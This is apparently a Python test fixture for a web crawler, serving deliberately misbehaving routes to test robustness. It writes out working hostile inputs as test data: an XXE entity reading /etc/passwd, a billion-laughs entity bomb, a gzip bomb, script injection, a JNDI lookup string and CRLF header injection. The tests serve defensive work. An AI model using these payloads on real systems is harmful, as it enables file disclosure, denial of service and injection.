"""Routes for a web server that misbehaves in every way the public web does.

The spiders' failure tests point at these to prove a bad server costs one source, never
the scan, the machine's memory, or the school's safety (no XXE, no entity bombs, no
scripts or Slack pings carried into alerts). Everything is generated in memory and lazily,
so the fixture starts in milliseconds and nothing waits longer than the test does.
"""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Iterator
from functools import cache

from crawler.demo.server import LocalSite, Request, Response

HUGE_BYTES = 50 * 1024 * 1024
GZIP_BOMB_INFLATED = 1024 * 1024 * 1024
LYING_LENGTH = 100_000  # announced; only LYING_BODY is sent
LYING_BODY = b"<html><body><p>This page promised far more than it delivers.</p>"
HANG_SECONDS = 30.0
DRIP_SECONDS = 1.0

HTML = "text/html; charset=utf-8"
RSS = "application/rss+xml; charset=utf-8"

# Said in both charsets below: a matcher that reads the bytes wrongly still sees the name,
# but the quotes and the apostrophe come out as mojibake unless the charset is repaired.
WRONG_CHARSET_TEXT = ("<html><head><title>\u201cBentilee Nursery School\u201d open day</title></head><body>"
                      "<p>\u201cWe\u2019re so proud,\u201d said a parent at Bentilee Nursery School \u2013 "
                      "the caf\u00e9 was packed.</p></body></html>")

HOSTILE_TEXT = ("Bentilee Nursery School parents say <script>alert(1)</script> {{ 7*7 }} "
                "<!channel> <@U024BE7LH> *bold* _italic_ ~strike~ `code` [link](http://example.invalid) "
                "${jndi:ldap://example.invalid/a}")

MALFORMED_RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE rss [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel>
<title>Broken &nbsp; feed &copy;</title>
<item>
  <title>Bentilee Nursery School &undefined; news &lol9;</title>
  <link>/malformed-item</link>
  <description>Secrets: &xxe; and laughs: &lol9; <b>unclosed bold <i>and italic
</item>
<item>
  <title>Second item with no end
  <description>&amp &lt; & <<>> </description>
</channel>
"""

NOT_A_FEED = (b"<!DOCTYPE html><html><head><title>Welcome</title></head><body>"
              b"<h1>This is a web page, not a feed</h1><p>Bentilee Nursery School news lives elsewhere.</p>"
              b"</body></html>")


def add_hostile_routes(site: LocalSite) -> None:
    """Register every hostile route on ``site`` (see the module docstring for why)."""
    routes = {
        "/hang": lambda _: Response(200, {"Content-Type": HTML}, b"<p>too late</p>", delay=HANG_SECONDS),
        "/slow-drip": _slow_drip,
        "/500": lambda _: Response(500, {"Content-Type": HTML}, b"<h1>Internal Server Error</h1>"),
        "/404": lambda _: Response(404, {"Content-Type": HTML}, b"<h1>Not Found</h1>"),
        "/redirect-to": _redirect_to,
        "/redirect-loop": lambda _: Response(302, {"Location": "/redirect-loop"}),
        "/huge": lambda _: Response(200, {"Content-Type": HTML, "Content-Length": str(HUGE_BYTES)}, _huge()),
        "/garbage": lambda _: Response(200, {"Content-Type": HTML}, garbage_bytes()),
        "/wrong-charset": lambda _: Response(200, {"Content-Type": "text/html; charset=iso-8859-1"},
                                             WRONG_CHARSET_TEXT.encode("utf-8")),
        "/wrong-charset-cp1252": lambda _: Response(200, {"Content-Type": HTML},
                                                    WRONG_CHARSET_TEXT.encode("cp1252")),
        "/malformed.rss": lambda _: Response(200, {"Content-Type": RSS}, MALFORMED_RSS),
        "/empty": lambda _: Response(200, {"Content-Type": HTML}, b""),
        "/lying-length": lambda _: Response(200, {"Content-Type": HTML, "Content-Length": str(LYING_LENGTH)},
                                            [LYING_BODY]),
        "/not-a-feed.rss": lambda _: Response(200, {"Content-Type": RSS}, NOT_A_FEED),
        "/gzip-bomb": lambda _: Response(200, {"Content-Type": HTML, "Content-Encoding": "gzip"}, gzip_bomb()),
        "/feed-with-hostile-entry.rss": lambda _: Response(200, {"Content-Type": RSS}, hostile_feed(site.base_url)),
        "/hostile-entry.html": lambda _: Response(200, {"Content-Type": HTML}, hostile_page()),
    }
    for path, handler in routes.items():
        site.route(path, handler)


def _slow_drip(_: Request) -> Response:
    body = b"<html><body><p>" + b"Bentilee Nursery School, one byte at a time. " * 20 + b"</p></body></html>"
    chunks = (body[i:i + 1] for i in range(len(body)))
    return Response(200, {"Content-Type": HTML, "Content-Length": str(len(body))}, chunks, drip=DRIP_SECONDS)


def _redirect_to(request: Request) -> Response:
    target = request.query.get("url", [""])[0]
    if not target:
        return Response(400, {"Content-Type": HTML}, b"<p>say where: /redirect-to?url=...</p>")
    return Response(302, {"Location": target, "Content-Type": HTML}, b"<p>Moved</p>")


def _huge() -> Iterator[bytes]:
    line = b"<p>Padding paragraph for a page far larger than any school news story needs.</p>\n"
    block = (line * (65536 // len(line) + 1))[:65536]
    sent = 0
    while sent < HUGE_BYTES:
        piece = block[:HUGE_BYTES - sent]
        sent += len(piece)
        yield piece


@cache
def garbage_bytes(size: int = 64 * 1024) -> bytes:
    """Random bytes, the same every run, so a failure reproduces."""
    return random.Random(1234).randbytes(size)


@cache
def gzip_bomb() -> bytes:
    """About 1 MB of gzip that inflates to 1 GiB of zeros, built in a quarter of a second.

    One MiB of zeros is deflated once and ended with a full flush, which resets the
    compressor's history; the compressed segment then refers only to itself, so repeating
    it 1024 times is a valid deflate stream for 1024 times the zeros.
    """
    zeros = bytes(1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(GZIP_BOMB_INFLATED // len(zeros)):
        crc = zlib.crc32(zeros, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    trailer = struct.pack("<II", crc, GZIP_BOMB_INFLATED & 0xFFFFFFFF)
    return header + segment * (GZIP_BOMB_INFLATED // len(zeros)) + tail + trailer


def _xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def hostile_feed(base_url: str) -> bytes:
    """A valid RSS feed whose one entry mentions the school amid markup meant to run, ping or add headers.

    The description carries the text twice: entity-escaped and inside CDATA, as real feeds do.
    """
    escaped = _xml_escape(HOSTILE_TEXT)
    return f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel>
<title>Hostile &lt;b&gt;feed&lt;/b&gt;</title>
<link>{base_url}/</link>
<description>A feed whose entry tries to smuggle markup</description>
<item>
  <title>{escaped}&#13;&#10;Bcc: attacker@example.invalid&#13;&#10;X-Injected: yes</title>
  <link>{base_url}/hostile-entry.html</link>
  <guid isPermaLink="false">hostile-entry-1</guid>
  <pubDate>Mon, 23 Nov 2026 09:00:00 +0000</pubDate>
  <description>{escaped}</description>
  <content:encoded xmlns:content="http://purl.org/rss/1.0/modules/content/"><![CDATA[<p>{HOSTILE_TEXT}</p>]]></content:encoded>
</item>
</channel></rss>
""".encode("utf-8")


def hostile_page() -> bytes:
    """The entry's page: the same text as visible words (escaped), plus a real script element."""
    return (f"<!DOCTYPE html><html><head><title>{_xml_escape(HOSTILE_TEXT)}</title></head><body>"
            f"<script>document.title = 'executed'</script>"
            f"<p>{_xml_escape(HOSTILE_TEXT)}</p></body></html>").encode("utf-8")
